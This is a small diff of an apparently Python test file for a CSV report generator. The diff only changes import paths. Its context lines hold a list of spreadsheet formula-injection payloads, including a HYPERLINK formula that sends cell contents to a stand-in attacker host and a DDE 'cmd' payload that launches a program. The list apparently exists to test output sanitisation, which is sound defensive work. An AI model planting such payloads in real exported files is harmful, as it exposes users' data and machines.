@@ -10,8 +10,8 @@ import csv
 import io
 from datetime import date, timedelta
 
-from generator.cli import main
-from generator.report import csv_cell
+from generator.cli.main import main
+from generator.reports.report import csv_cell
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = ['=HYPERLINK("http://tan-cong.example/?"&A1;"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)",
